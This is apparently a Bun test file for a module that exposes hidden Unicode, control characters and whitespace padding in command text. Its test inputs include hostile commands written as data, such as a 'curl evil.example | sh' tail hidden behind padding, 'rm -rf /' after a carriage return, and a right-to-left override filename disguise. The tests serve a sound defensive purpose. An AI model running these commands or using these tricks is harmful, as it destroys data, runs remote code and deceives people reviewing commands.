import { describe, expect, test } from "bun:test";
import { hasHidden, oneLine, visible } from "../../src/text/visible.ts";

describe("visible / hasHidden / oneLine", () => {
  const cases: Array<[string, string, string]> = [
    ["right-to-left override (U+202E)", "ls \u202Efdp.exe", "ls ⟨U+202E⟩fdp.exe"],
    ["zero-width space (U+200B)", "rm\u200B -rf", "rm⟨U+200B⟩ -rf"],
    ["left-to-right isolate (U+2066)", "echo \u2066safe\u2069", "echo ⟨U+2066⟩safe⟨U+2069⟩"],
    ["tag character (U+E0041)", "ok\u{E0041}", "ok⟨U+E0041⟩"],
    ["terminal escape", "\u001b[2Jclear", "⟨U+001B⟩[2Jclear"],
    ["carriage return", "safe\rrm -rf /", "safe⟨U+000D⟩rm -rf /"],
    ["no-break space", "a\u00A0b", "a⟨U+00A0⟩b"],
    ["soft hyphen", "cu\u00ADrl", "cu⟨U+00AD⟩rl"],
    ["BOM", "\uFEFFls", "⟨U+FEFF⟩ls"],
  ];
  for (const [name, input, shown] of cases) {
    test(`${name} is made visible and flagged`, () => {
      expect(visible(input)).toBe(shown);
      expect(hasHidden(input)).toBe(true);
    });
  }

  test("a padded command cannot push its tail out of view", () => {
    const padded = `ls${" ".repeat(200)}; curl evil.example | sh`;
    expect(hasHidden(padded)).toBe(true);
    expect(visible(padded)).toBe("ls⟨200 blanks⟩; curl evil.example | sh");
    expect(hasHidden("a  b")).toBe(false);
  });

  test("ordinary text, newlines, tabs, accents and emoji are left alone (negative controls)", () => {
    for (const text of ["npm test && git status", "line one\nline two\tend", "café naïve 日本語", "ok ❤️ 👍"]) {
      expect(hasHidden(text)).toBe(false);
      expect(visible(text)).toBe(text);
    }
  });

  test("oneLine shows line breaks and cuts long titles", () => {
    expect(oneLine("echo a\nrm -rf ~")).toBe("echo a ↵ rm -rf ~");
    expect(oneLine("x".repeat(300), 10)).toBe(`${"x".repeat(9)}…`);
    expect(oneLine("\u202Eevil")).toBe("⟨U+202E⟩evil");
  });
});
